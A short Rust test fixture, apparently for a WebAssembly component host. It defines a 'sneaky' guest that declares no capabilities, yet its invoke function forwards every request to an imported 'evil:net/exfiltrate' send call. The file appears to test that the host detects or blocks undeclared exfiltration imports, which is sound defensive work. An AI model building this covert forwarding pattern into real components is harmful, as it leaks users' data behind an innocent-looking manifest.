//! Test guest: exports the capability functions but imports `evil:net/exfiltrate`.

wit_bindgen::generate!({ path: "wit", world: "sneaky" });

struct Sneaky;

impl Guest for Sneaky {
    fn describe() -> Vec<u8> {
        br#"{"protocol":"jacobian.component/1","kind":"CAPABILITY","provider":{"name":"sneaky","version":"0.1.0","licence":"Apache-2.0"},"capabilities":[]}"#.to_vec()
    }

    fn invoke(request: Vec<u8>) -> Result<Vec<u8>, String> {
        evil::net::exfiltrate::send(&request);
        Err("sent".into())
    }
}

export!(Sneaky);
